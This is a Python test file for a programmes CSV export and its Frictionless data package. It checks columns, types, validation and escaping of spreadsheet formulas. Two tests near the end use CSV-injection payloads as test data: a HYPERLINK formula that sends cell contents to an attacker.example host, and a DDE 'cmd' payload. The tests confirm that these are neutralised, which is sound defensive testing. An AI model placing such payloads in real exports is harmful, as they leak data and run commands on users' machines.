"""data/programmes.csv: one row per programme and language, read as Python's csv and Frictionless read it, with their types."""

from __future__ import annotations

import csv
import dataclasses
import datetime
import io
import json
from decimal import Decimal
from pathlib import Path

import frictionless
import pytest

from generator.formats import json_text
from generator.pages.opendata import spreadsheet
from generator.records.model import Referrer

from .opendata_fixtures import BASE_URL, dutch_view, fixture_views, with_refusal_without_route, with_status

UNPUBLISHED = "not published — contact the provider"


def rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("id,language,")
    found = list(csv.DictReader(io.StringIO(text)))
    assert found
    return found


def test_one_row_per_programme_and_language_with_the_facts_a_commissioner_compares() -> None:
    views = fixture_views()
    table = rows(spreadsheet.programmes_csv(views, BASE_URL))
    assert [(r["id"], r["language"]) for r in table] == [(v.programme.id, lang) for lang in ("en", "nl") for v in views]
    group = {r["language"]: r for r in table if r["id"] == "example-group"}
    assert group["en"]["provider"] == "Example Family Service" and group["nl"]["provider"] == "Voorbeeld Gezinsdienst"
    assert (group["en"]["format"], group["en"]["sessions"], group["en"]["weeks"], group["en"]["group_size"]) == ("Group", "10", "10", "12")
    assert group["en"]["delivery"] == "In person; Online" and group["nl"]["format"] == "Groep"
    assert group["en"]["cost"] == UNPUBLISHED and group["en"]["contact_email"] == "team@service.example.org"
    assert (group["en"]["referral_social_worker"], group["en"]["referral_self"], group["en"]["referral_cafcass"]) == ("Yes", "Yes, on conditions: After a Cafcass recommendation.", "No")
    assert group["en"]["referral_health"] == "Not stated by the provider — contact them" and group["nl"]["referral_social_worker"] == "Ja"
    assert group["en"]["last_reviewed"] == "2026-01-15" and group["nl"]["page"] == BASE_URL + "nl/programmes/example-group/"
    one = next(r for r in table if r["id"] == "example-one-to-one" and r["language"] == "en")
    assert one["group_size"] == "" and one["sessions"] == "" and one["cost"] == "Free." and one["status"] == "Pilot"


def test_every_referrer_has_a_column_and_an_unknown_status_stays_unknown() -> None:
    views = fixture_views()
    changed = [with_status(views[1], "unknown"), with_refusal_without_route(views[1], Referrer.health)]
    table = rows(spreadsheet.programmes_csv(changed, BASE_URL))
    assert table[0]["status"] == UNPUBLISHED and table[1]["referral_health"] == "No"
    assert {f"referral_{r.value}" for r in Referrer} <= set(table[0])


def test_frictionless_finds_the_csv_valid_against_its_data_package(tmp_path: Path) -> None:
    views = fixture_views() + [with_status(dutch_view(fixture_views()[0]), "unknown")]
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "programmes.csv").write_bytes(spreadsheet.programmes_csv(views, BASE_URL).encode("utf-8"))
    (folder / "datapackage.json").write_text(json_text(spreadsheet.data_package(BASE_URL)), encoding="utf-8")
    report = frictionless.validate(str(folder / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    header = next(csv.reader(io.StringIO((folder / "programmes.csv").read_text(encoding="utf-8"))))
    fields = json.loads((folder / "datapackage.json").read_text())["resources"][0]["schema"]["fields"]
    assert header == [f["name"] for f in fields] and all(f["description"] for f in fields)


def test_frictionless_catches_a_wrong_cell(tmp_path: Path) -> None:
    text = spreadsheet.programmes_csv(fixture_views(), BASE_URL).replace(",10,10,20,12,", ",ten,10,20,12,", 1)
    (tmp_path / "programmes.csv").write_bytes(text.encode("utf-8"))
    (tmp_path / "datapackage.json").write_text(json_text(spreadsheet.data_package(BASE_URL)), encoding="utf-8")
    report = frictionless.validate(str(tmp_path / "datapackage.json"))
    assert not report.valid and "type-error" in {error[2] for error in report.flatten(["rowNumber", "fieldName", "type"])}


def test_frictionless_reads_each_column_with_its_type_and_unknown_numbers_as_missing(tmp_path: Path) -> None:
    (tmp_path / "programmes.csv").write_bytes(spreadsheet.programmes_csv(fixture_views(), BASE_URL).encode("utf-8"))
    (tmp_path / "datapackage.json").write_text(json_text(spreadsheet.data_package(BASE_URL)), encoding="utf-8")
    package = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    assert package["version"] and package["description"] and package["licenses"]
    assert package["resources"][0]["encoding"] == "utf-8" and not (tmp_path / "programmes.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    resource = frictionless.Package(str(tmp_path / "datapackage.json")).get_resource("programmes")
    assert isinstance(resource, frictionless.resources.TableResource)
    table = resource.read_rows()
    group = next(r for r in table if r["id"] == "example-group" and r["language"] == "en")
    assert (group["sessions"], group["weeks"], group["hours"], group["group_size"]) == (10, 10, Decimal(20), 12)
    assert group["last_reviewed"] == datetime.date(2026, 1, 15) and group["cost"] is None
    one = next(r for r in table if r["id"] == "example-one-to-one" and r["language"] == "en")
    assert one["sessions"] is None and one["group_size"] is None and isinstance(one["weeks"], int)


def test_the_data_package_refuses_a_csv_that_breaks_a_field_constraint() -> None:
    package = spreadsheet.data_package(BASE_URL)
    text = spreadsheet.programmes_csv(fixture_views(), BASE_URL)
    assert spreadsheet.checked(text, package) == text
    with pytest.raises(ValueError, match="constraint"):
        spreadsheet.checked(text.replace(",GB,", ",UK,", 1), package)


def test_a_csv_found_invalid_is_refused_each_time_it_is_checked() -> None:
    # checked remembers the last CSV it validated: what it remembers of a bad one is the refusal.
    package = spreadsheet.data_package(BASE_URL)
    bad = spreadsheet.programmes_csv(fixture_views(), BASE_URL).replace(",GB,", ",UK,", 1)
    for _ in range(2):
        with pytest.raises(ValueError, match="constraint"):
            spreadsheet.checked(bad, package)


def test_a_cell_that_starts_as_a_formula_is_text_but_numbers_and_phone_numbers_stay_as_written() -> None:
    formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
    for written in (formula, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "-"):
        assert spreadsheet.safe_cell(written) == "'" + written
    for written in ("-2", "+2", "2.5", "-2,5", "+44 20 7946 0000", "+44 (0)20 7946 0000", "Caring Dads", "", "2026-01-15"):
        assert spreadsheet.safe_cell(written) == written


def test_a_programme_named_as_a_formula_reaches_the_csv_as_text() -> None:
    """A name the record allows (“=HYPERLINK(…)” holds no markup) opens in a spreadsheet as the words, not a link that leaks the sheet."""
    view = fixture_views()[0]
    formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
    programme = view.programme.model_copy(update={"name": view.programme.name.model_copy(update={"en": formula})})
    table = rows(spreadsheet.programmes_csv([dataclasses.replace(view, programme=programme)], BASE_URL))
    assert table[0]["programme"] == "'" + formula
